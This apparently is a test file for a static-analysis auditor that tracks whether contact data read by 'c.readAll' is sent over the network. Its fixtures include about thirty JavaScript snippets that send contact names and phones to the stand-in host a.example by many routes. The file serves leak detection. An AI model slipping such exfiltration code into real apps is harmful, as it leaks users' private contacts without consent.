"""What scripts send of what a call gives them, and what they keep to themselves."""

import pytest

from auditor.scripts.asking import find_dialogs
from auditor.scripts.carrying import sent_by
from auditor.scripts.program import Scripts
from auditor.scripts.running import Runs
from auditor.scripts.syntax import Source

SENT = {
    "callback": "c.readAll(function(p){ fetch('https://a.example/x',{method:'POST',body:JSON.stringify(p)}) })",
    "mapped": "c.readAll(p=>{ const list=p.map(one=>({n:one.name})); uni.request({url:'https://a.example/x',data:{list}}) })",
    "promise": "const API='https://a.example'; async function go(){ const p=await c.readAll(); await axios.post(API+'/x',{p}) }",
    "then": "c.readAll().then(function(p){ return p.map(q) }).then(function(l){ $.post('https://a.example/x',l) })",
    "helper": "function up(list){ return fetch(`https://a.example/${v}`,{body:JSON.stringify({list:list})}) } c.readAll(function(p){ up(p.map(f)) })",
    "loop": "c.readAll(function(p){ var l=[]; for(const one of p){ l.push(one.phone) } send(l) }); function send(l){ fetch('https://a.example/x',{body:l}) }",
    "each": "c.readAll(function(p){ var l=[]; p.forEach(function(o){ l.push({n:o.n}) }); fetch('https://a.example/x',{body:JSON.stringify(l)}) })",
    "book": "c.readAll('P',function(b){ b.find([],function(p){ fetch('https://a.example/x',{body:p}) }) })",
    "property": "var page={load(){ var t=this; c.readAll(function(p){ t.people=p }) },up(){ fetch('https://a.example/x',{body:this.people}) }}",
    "resolved": "function all(){ return new Promise(function(r){ c.readAll(function(p){ r(p) }) }) } async function go(){ const p=await all(); fetch('https://a.example/x',{body:p}) }",
    "done": "function all(done){ c.readAll(function(p){ done(p) }) } all(function(p){ fetch('https://a.example/x',{body:p}) })",
    "xhr": "c.readAll(function(p){ var x=new XMLHttpRequest(); x.open('POST','https://a.example/x'); x.send(JSON.stringify(p)) })",
    "address of a picture": "c.readAll(function(p){ new Image().src='https://a.example/x?l='+JSON.stringify(p) })",
    "address of a page": "const API='https://a.example/x?l='; c.readAll(function(p){ location.href=API+p[0].phone })",
    "kept as a state": "function App(){ const [list,setList]=useState([]); useEffect(()=>{ c.readAll(setRead) },[]); const setRead=p=>setList(p); useEffect(()=>{ fetch('https://a.example/x',{body:list}) },[list]) } render(App)",
    "kept as a state of Babel's": "function App(){ var t=(0,o.useState)([]),i=(0,n.default)(t,2),list=i[0],setList=i[1]; c.readAll(function(p){ setList(p) }); function up(){ fetch('https://a.example/x',{body:list}) } } render(App)",
    "given to a component": "function List({people}){ fetch('https://a.example/x',{body:people}) } c.readAll(function(p){ render(jsx(List,{people:p,token:t})) })",
    "given by a module to a state": "__d(function(g,r,i,a,m,e,d){m.exports=function(s){c.readAll(function(p){s(p)})}},1,[]);"
    "__d(function(g,r,i,a,m,e,d){var t=r(d[0]);m.exports=function(){var s=t.useState([]);r(d[1])(s[1]);fetch('https://a.example/x',{body:s[0]})}},0,[2,1])",
    "through Babel's wrapper": "function pick(t){return u.apply(this,arguments)} function u(){return(u=(0,n.default)(function*(t){c.readAll(function(p){t(p)})})).apply(this,arguments)} pick(function(l){ fetch('https://a.example/x',{body:l}) })",
    "joined to a text": "c.readAll(function(p){ var s=''; p.forEach(function(o){ s+=o.name+',' }); fetch('https://a.example/x',{body:s}) })",
    "put into an object": "c.readAll(function(p){ var d={}; d.list=p; fetch('https://a.example/x',{body:JSON.stringify(d)}) })",
    "put into an object within one": "var t={form:{}}; c.readAll(function(p){ t.form.list=p }); function up(){ fetch('https://a.example/x',{body:t.form}) }",
    "put into rows": "c.readAll(function(p){ var l=[]; for(var i=0;i<p.length;i++){ l[i]=p[i].phone } fetch('https://a.example/x',{body:l}) })",
    "pushed into a member": "var t={rows:[]}; c.readAll(function(p){ p.forEach(o=>t.rows.push(o)) }); function up(){ fetch('https://a.example/x',{body:t.rows}) }",
    "in a name of the page": "c.readAll(function(p){ people=p }); function up(){ fetch('https://a.example/x',{body:people}) }",
    "taken apart": "c.readAll(function(p){ let a; [a]=p; fetch('https://a.example/x',{body:a}) })",
    "taken out of an object": "c.readAll(function(p){ const d={list:p,token:t}; const {list}=d; fetch('https://a.example/x',{body:list}) })",
    "handed on in an object": "function up({list:l,token:k}){ fetch('https://a.example/x',{body:l}) } c.readAll(function(p){ up({list:p,token:t}) })",
    "by its own name in two objects": "c.readAll(function(p){ var d={list:p}; var e={d,token:t}; fetch('https://a.example/x',{body:e.d.list}) })",
    "by an unknown name": "c.readAll(function(p){ var d={}; d.list=p; for(var k in d){ fetch('https://a.example/x',{body:d[k]}) } })",
}
KEPT = {
    "shown": "c.readAll(function(p){ p.forEach(function(o){ list.add(o.name) }) }); fetch('https://a.example/x',{body:amount})",
    "counted": "c.readAll(function(p){ fetch('https://a.example/x',{body:p.length}) })",
    "something else": "c.readAll(function(p){ show(p); fetch('https://a.example/x',{body:form}) })",
    "logged": "c.readAll(function(p){ console.log(p) })",
    "compared": "c.readAll(function(p){ fetch('https://a.example/x',{body:p===null}) })",
    "beside it in an object": "c.readAll(function(p){ var d={list:p,token:t}; show(d.list); fetch('https://a.example/x',{body:d.token}) })",
    "beside it in an object that is filled": "var d={}; c.readAll(function(p){ d.list=p }); function up(){ fetch('https://a.example/x',{body:d.token}) }",
    "beside it in what is handed on": "function up({list:l,token:k}){ show(l); fetch('https://a.example/x',{body:k}) } c.readAll(function(p){ up({list:p,token:t}) })",
    "beside its own name in two objects": "c.readAll(function(p){ var d={list:p}; var e={d,token:t}; fetch('https://a.example/x',{body:e.token+e.d.size}) })",
    "beside it in a component": "function List({people,token}){ fetch('https://a.example/x',{body:token}) } c.readAll(function(p){ render(jsx(List,{people:p,token:t})) })",
    "on the page": "c.readAll(function(p){ box.innerHTML=p[0].name }); fetch('https://a.example/x',{body:other.innerHTML})",
}


def carried(script):
    scripts = Scripts((Source("app.js", script.encode()),))
    assert scripts.sources[0].is_whole
    runs = Runs(scripts, find_dialogs(scripts))
    return sent_by(runs, list(scripts.calls([".readAll"])))


@pytest.mark.parametrize("name", SENT)
def test_what_is_carried_to_a_call_that_sends_is_sent(name):
    found = carried(SENT[name]).sent
    assert len(found) == 1
    assert name == "xhr" or found[0].address.startswith("https://a.example")


@pytest.mark.parametrize("name", KEPT)
def test_what_is_not_carried_there_is_not(name):
    assert carried(KEPT[name]).sent == ()


@pytest.mark.parametrize(
    "script",
    [
        "c.readAll(function(p){ location.href='detail.html?id='+p[0].id })",
        "c.readAll(function(p){ window.Bridge.deliver(JSON.stringify(p)) })",
        "c.readAll(function(p){ cordova.exec(ok, fail, 'Vault', 'put', [p]) })",
    ],
)
def test_what_goes_to_another_page_or_to_code_is_not_followed_to_its_end(script):
    found = carried(script)
    assert found.sent == ()
    assert not found.is_whole


@pytest.mark.parametrize(
    "script",
    [
        "c.readAll(function(p){ var l=document.createElement('li'); l.textContent=p[0].name; document.body.appendChild(l) })",
        "function App(){ const [list,setList]=useState([]); c.readAll(function(p){ setList(p) }); return jsx(n.FlatList,{data:list,renderItem:o=>jsx('li',{children:o.name})}) } render(App)",
    ],
)
def test_what_is_shown_is_followed_to_its_end(script):
    assert carried(script).is_whole


def test_what_is_put_under_a_name_that_tells_nothing_is_not_followed_to_its_end():
    assert not carried("c.readAll(function(p){ t.a=p })").is_whole
